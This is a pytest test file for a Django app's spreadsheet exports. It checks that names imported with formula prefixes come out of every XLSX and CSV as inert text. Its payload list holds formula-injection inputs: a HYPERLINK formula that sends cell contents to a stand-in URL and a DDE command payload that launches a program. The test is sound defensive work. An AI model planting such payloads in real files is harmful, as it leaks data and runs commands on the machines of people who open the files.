"""Exports neutralize formula prefixes (CSV injection): names imported as written come out of
every XLSX and CSV the app writes as text, never as a live formula; numbers stay numbers.

The walk covers every list page (each GET page without arguments asked for ``?export=xlsx``),
the pages of one plan, the API's exports, the error reports and the export command; a
second test makes sure no module writes a spreadsheet or a CSV without the neutralizer."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from tinhgon.accounts.tests.factories import make_user
from tinhgon.apparatus.importers import units_import_file
from tinhgon.apparatus.models import Unit
from tinhgon.cadres.models import Cadre
from tinhgon.core.exports import FORMULA_PREFIXES, XLSX, safe_cell, workbook_bytes
from tinhgon.restructuring.services import operations_add, plan_create, plan_validate

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://x"&A1,"a")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
CSV_HEADER = "Họ và tên,Giới tính,Ngày sinh,Số CCCD,Ghi chú,Mã đơn vị,Chức vụ,Từ ngày"
SRC = Path(__file__).resolve().parent.parent / "src" / "tinhgon"


def test_safe_cell_prefixes_text_only():
    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert safe_cell("\tx") == "'\tx" and safe_cell("\rx") == "'\rx"
    assert safe_cell("Nguyễn Văn A") == "Nguyễn Văn A" and safe_cell("a=b") == "a=b" and safe_cell("") == ""
    for number in (-5, -2.5, 0, None, dt.date(2025, 7, 1)):
        assert safe_cell(number) == number


def test_workbook_keeps_numbers_and_dates():
    from decimal import Decimal

    ws = load_workbook(io.BytesIO(workbook_bytes("t", ["=h"], [[-5, -2.5, Decimal("-1.25"), dt.date(2025, 7, 1),
                                                                 "-x"]]))).worksheets[0]
    assert ws["A1"].value == "'=h"
    assert [c.value for c in ws[2]][:3] == [-5, -2.5, -1.25] and all(c.data_type == "n" for c in ws[2][:3])
    assert ws["D2"].is_date and ws["E2"].value == "'-x" and ws["E2"].data_type == "s"


@pytest.fixture
def world(tree, client):
    """Units, cadres and a plan named with formulas, imported through the real import paths."""
    admin = make_user("x-admin", role="administrator", is_superuser=True)
    units = "code,name,kind,parent_code,valid_from,note\n" + "".join(
        f'0099{i},"{p.replace(chr(34), chr(34) * 2)}",phuong,001,2020-01-01,"{p.replace(chr(34), chr(34) * 2)}"\n'
        for i, p in enumerate(PAYLOADS))
    units_import_file(fileobj=io.BytesIO(units.encode()), filename="units.csv")
    rows = "".join(f'"{p.replace(chr(34), chr(34) * 2)}",Nam,1980-01-0{i + 1},00108001234{i},'
                   f'"{p.replace(chr(34), chr(34) * 2)}",00001,"{p.replace(chr(34), chr(34) * 2)}",2021-01-01\n'
                   for i, p in enumerate(PAYLOADS))
    upload = io.BytesIO((CSV_HEADER + "\n" + rows).encode())
    upload.name = "can-bo.csv"
    client.force_login(admin)
    r = client.post("/api/cadres/import/", {"file": upload})
    assert r.status_code == 200, r.content
    plan = plan_create(name=PAYLOADS[0], effective_date=dt.date(2025, 7, 1), legal_basis=PAYLOADS[1], user=admin)
    operations_add(plan=plan, operations=[("rename", {"code": "00990", "name": PAYLOADS[2]})], user=admin)
    plan_validate(plan=plan, user=admin)
    return {"admin": admin, "plan": plan, "client": client}


def test_imports_keep_the_text_as_written(world):
    assert set(Cadre.objects.values_list("full_name", flat=True)) == set(PAYLOADS)
    assert set(Unit.objects.filter(code__startswith="0099").values_list("name", flat=True)) == set(PAYLOADS)


def _check_xlsx(content: bytes, where: str) -> set[str]:
    """No cell is a formula or text that a spreadsheet would read as one; the neutralized texts."""
    found = set()
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{where}: {ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(FORMULA_PREFIXES), f"{where}: {ws.title}!{c.coordinate} {c.value!r}"
                    found.add(c.value)
    return found


def _check_csv(text: str, where: str) -> set[str]:
    """No field a spreadsheet would read as a formula (a negative number stays a number)."""
    found = set()
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
        for field in row:
            if field.startswith(FORMULA_PREFIXES):
                assert re.fullmatch(r"-\d+(\.\d+)?", field), f"{where}: {field!r}"
            found.add(field)
    return found


from tinhgon.core.testing import job_download  # noqa: E402


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _list_pages() -> list[str]:
    """Every page (not the API) whose route takes no argument."""
    out = []

    def walk(patterns, prefix):
        for p in patterns:
            route = prefix + str(p.pattern)
            if "<" in route or "(?P" in route or route.startswith(("api/", "django-admin/", "^")):
                continue
            if isinstance(p, URLResolver):
                walk(p.url_patterns, route)
            elif isinstance(p, URLPattern):
                out.append("/" + route.replace("^", "").replace("$", ""))

    walk(get_resolver().url_patterns, "")
    return out


def test_every_export_neutralizes_formulas(world, tmp_path):
    client, plan = world["client"], world["plan"]
    unit = Unit.objects.get(code="00990")
    cadre = Cadre.objects.get(full_name=PAYLOADS[0])
    urls = [f"{u}?export=xlsx" for u in _list_pages()] + [
        reverse("apparatus:unit_export"),
        reverse("restructuring:plan_report", args=[plan.pk]) + "?export=xlsx",
        reverse("restructuring:violations_export", args=[plan.pk]),
        reverse("cadres:retiring") + "?export=xlsx&months=600",
        reverse("cadres:cadre_list") + "?export=xlsx&unit=" + str(unit.pk),
        "/api/cadres/export/?file_format=xlsx", "/api/cadres/export/?file_format=csv",
        f"/api/cadres/export/?file_format=csv&q={cadre.full_name[:3]}",
    ]
    seen: set[str] = set()
    exports = 0
    for url in urls:
        r = client.get(url)
        if r.status_code == 302 and r["Location"].startswith("/jobs/"):  # an export prepared by a job
            _job, r = job_download(client, r)
        kind = r.get("Content-Type", "")
        if kind.startswith(XLSX):
            seen |= _check_xlsx(_content(r), url)
        elif kind.startswith("text/csv"):
            seen |= _check_csv(_content(r).decode(), url)
        else:
            continue
        exports += 1
    assert exports >= 12, exports

    # Error reports carry the uploaded file's name.
    bad = io.BytesIO(b"kind,source_codes\ndissolve,99999\n")
    bad.name = PAYLOADS[2] + ".csv"  # a name without "/", which uploads drop
    client.post(reverse("restructuring:operations_import", args=[plan.pk]), {"file": bad})
    r = client.get(reverse("restructuring:operations_import_errors", args=[plan.pk]))
    seen |= _check_xlsx(r.content, "operations errors")
    bad = io.BytesIO((CSV_HEADER + "\n" + PAYLOADS[3] + ",?,x,y,,,,\n").encode())
    bad.name = PAYLOADS[3] + ".csv"
    r = client.post("/api/cadres/import/", {"file": bad, "error_report": "xlsx"})
    assert r.status_code == 400
    seen |= _check_xlsx(r.content, "cadre errors")

    # The export command, both formats.
    for name in ("out.xlsx", "out.csv"):
        call_command("export_cadres", str(tmp_path / name), stdout=io.StringIO())
    seen |= _check_xlsx((tmp_path / "out.xlsx").read_bytes(), "command xlsx")
    seen |= _check_csv((tmp_path / "out.csv").read_text(encoding="utf-8"), "command csv")

    assert {"'" + p for p in PAYLOADS} <= seen
    assert {f"'{PAYLOADS[2]}.csv", f"'{PAYLOADS[3]}.csv"} <= seen


def test_every_writer_goes_through_the_neutralizer():
    """A module that writes a workbook or CSV rows outside core.exports must use safe_cell/safe_row."""
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\.writerow\(")
    offenders = []
    for path in SRC.rglob("*.py"):
        if "tests" in path.parts or path.name == "exports.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if writers.search(text) and not re.search(r"\bsafe_(cell|row)\b", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
